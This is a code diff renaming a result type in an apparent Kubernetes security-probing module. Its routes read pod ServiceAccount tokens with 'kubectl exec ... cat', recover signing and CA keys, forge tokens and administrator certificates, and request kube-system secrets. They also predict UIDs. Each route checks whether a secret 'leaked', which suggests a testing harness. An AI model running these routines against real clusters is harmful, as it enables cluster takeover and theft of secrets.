@@ -14,7 +14,7 @@ from typing import TYPE_CHECKING, ClassVar
 
 from . import certificates, p256
 from .ports import listening
-from .route import Known, Loot, Route
+from .route import Known, ProbeResult, Route
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -67,25 +67,25 @@ class ForgedToken(Route):
 
     name: ClassVar[str] = "forged-token"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Read the token of a pod, find its key, sign another one, and use that."""
-        accounts = loot.take(place.api("/api/v1/namespaces/kube-system/serviceaccounts")[1])
-        texts = [accounts, loot.take(place.api("/api/v1/nodes")[1])]
-        token = _token_of_a_pod(place, loot)
+        accounts = result.take(place.api("/api/v1/namespaces/kube-system/serviceaccounts")[1])
+        texts = [accounts, result.take(place.api("/api/v1/nodes")[1])]
+        token = _token_of_a_pod(place, result)
         key = recomputed(token, texts)
         if key is None:
             return
         forged = _forged(token, key, accounts)
-        loot.facts.update(key=key.hex(), token=token, forged=forged)
-        loot.take(place.tool("kubectl", command=f"get secrets -n kube-system --token={forged}"))
+        result.facts.update(key=key.hex(), token=token, forged=forged)
+        result.take(place.tool("kubectl", command=f"get secrets -n kube-system --token={forged}"))
 
-    def leaked(self, loot: Loot, known: Known) -> str:
+    def leaked(self, result: ProbeResult, known: Known) -> str:
         """The key that is claimed must have signed the token that was read."""
-        signed, _, signed_with = str(loot.facts.get("token", "")).rpartition(".")
-        key = bytes.fromhex(str(loot.facts.get("key", "")))
+        signed, _, signed_with = str(result.facts.get("token", "")).rpartition(".")
+        key = bytes.fromhex(str(result.facts.get("key", "")))
         if key and signature(key, signed) == signed_with:
             return "the key of the tokens was worked out: any ServiceAccount can be forged"
-        return known.found(loot.texts)
+        return known.found(result.texts)
 
 
 class ForgedCertificate(Route):
@@ -93,9 +93,9 @@ class ForgedCertificate(Route):
 
     name: ClassVar[str] = "forged-certificate"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Collect certificates, find the key of one, sign a certificate with it, and use that."""
-        texts = [loot.take(place.kubeconfig.read_text())]
+        texts = [result.take(place.kubeconfig.read_text())]
         for path in (
             "/api/v1/namespaces/kube-system/configmaps",
             f"/api/v1/namespaces/{place.namespace}/configmaps",
@@ -103,9 +103,9 @@ class ForgedCertificate(Route):
             "/api/v1/nodes",
             "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
         ):
-            found = loot.take(place.api(path)[1])
+            found = result.take(place.api(path)[1])
             texts += [found, *_decoded(found)]
-        texts.append(_read_in_a_pod(place, loot, "ca.crt"))
+        texts.append(_read_in_a_pod(place, result, "ca.crt"))
         curve = p256.Curve.prepared()
         for public, authority in certificates.authorities(texts).items():
             candidates = map(p256.private_key, secrets("certificate authority", texts))
@@ -113,18 +113,18 @@ class ForgedCertificate(Route):
             if key is None:
                 continue
             certificate, own = certificates.client(curve, key, *ADMINISTRATOR)
-            loot.facts.update(key=f"{key:x}", authority=authority, certificate=certificate)
+            result.facts.update(key=f"{key:x}", authority=authority, certificate=certificate)
             for port in listening():
-                loot.take(with_certificate(port, certificate + own, "/api/v1/secrets"))
+                result.take(with_certificate(port, certificate + own, "/api/v1/secrets"))
 
-    def leaked(self, loot: Loot, known: Known) -> str:
+    def leaked(self, result: ProbeResult, known: Known) -> str:
         """The key that is claimed must be that of the authority whose certificate was read."""
-        claimed = int(str(loot.facts.get("key", "0")), 16)
+        claimed = int(str(result.facts.get("key", "0")), 16)
         if claimed:
             public = p256.Curve.prepared().public(claimed)
-            if public in certificates.authorities([str(loot.facts.get("authority", ""))]):
+            if public in certificates.authorities([str(result.facts.get("authority", ""))]):
                 return "the key of the certificate authority was worked out: anybody can be forged"
-        return known.found(loot.texts)
+        return known.found(result.texts)
 
 
 class Prediction(Route):
@@ -132,26 +132,26 @@ class Prediction(Route):
 
     name: ClassVar[str] = "predicted-uid"
 
-    def attempt(self, place: Place, loot: Loot) -> None:
+    def attempt(self, place: Place, result: ProbeResult) -> None:
         """Find the seed by uids that are there; see what the next token's id is."""
         texts = [
-            loot.take(place.api(f"/api/v1/{what}")[1])
+            result.take(place.api(f"/api/v1/{what}")[1])
             for what in ("namespaces", "nodes", "serviceaccounts", "pods")
         ]
-        loot.facts["seeds"] = seeds_in(texts)
+        result.facts["seeds"] = seeds_in(texts)
         path = f"/api/v1/namespaces/{place.namespace}/serviceaccounts/default/token"
         asked = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
-        token = _TOKEN.search(loot.take(place.api(path, "POST", asked)[1]))
+        token = _TOKEN.search(result.take(place.api(path, "POST", asked)[1]))
         later = "" if token is None else str(_claims(token[0]).get("jti", ""))
-        loot.facts["later"] = later or _later_uid(place, loot)
+        result.facts["later"] = later or _later_uid(place, result)
 
-    def leaked(self, loot: Loot, known: Known) -> str:
+    def leaked(self, result: ProbeResult, known: Known) -> str:
         """The id that came later must not be among those that a seed gives."""
-        later = loot.facts.get("later", "")
-        for seed in loot.facts.get("seeds", ()):
+        later = result.facts.get("later", "")
+        for seed in result.facts.get("seeds", ()):
             if later and any(uid(seed, number) == later for number in range(1, LATER)):
                 return f"the uid of what came later follows from seed {seed}"
-        return known.found(loot.texts)
+        return known.found(result.texts)
 
 
 def recomputed(token: str, texts: list[str]) -> bytes | None:
@@ -191,12 +191,12 @@ def with_certificate(port: int, pem: str, path: str) -> bytes:
     return got
 
 
-def _token_of_a_pod(place: Place, loot: Loot) -> str:
-    found = _TOKEN.search(_read_in_a_pod(place, loot, "token"))
+def _token_of_a_pod(place: Place, result: ProbeResult) -> str:
+    found = _TOKEN.search(_read_in_a_pod(place, result, "token"))
     return "" if found is None else found[0]
 
 
-def _read_in_a_pod(place: Place, loot: Loot, name: str) -> str:
+def _read_in_a_pod(place: Place, result: ProbeResult, name: str) -> str:
     """A file that a ServiceAccount brings into a pod, from the first pod that shows it."""
     listed = json.loads(
         place.api(f"/api/v1/namespaces/{place.namespace}/pods?limit=20")[1].partition("\n\n")[2]
@@ -205,7 +205,7 @@ def _read_in_a_pod(place: Place, loot: Loot, name: str) -> str:
     for item in listed.get("items", ())[:8]:
         path = f"{MOUNTED}/{name}"
         command = f"exec {item['metadata']['name']} -n {place.namespace} -- cat {path}"
-        found = loot.take(place.tool("kubectl", command=command))
+        found = result.take(place.tool("kubectl", command=command))
         if "eyJ" in found or "BEGIN" in found:
             return found
     return ""
@@ -217,10 +217,10 @@ def _decoded(text: str) -> Iterator[str]:
         yield base64.b64decode(found + "=" * (-len(found) % 4)).decode("utf-8", "replace")
 
 
-def _later_uid(place: Place, loot: Loot) -> str:
+def _later_uid(place: Place, result: ProbeResult) -> str:
     made = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "notes-of-today"}}
     base = f"/api/v1/namespaces/{place.namespace}/configmaps"
-    found = _UID.search(loot.take(place.api(base, "POST", made)[1]))
+    found = _UID.search(result.take(place.api(base, "POST", made)[1]))
     place.api(f"{base}/notes-of-today", "DELETE")
     return "" if found is None else found[0]
 
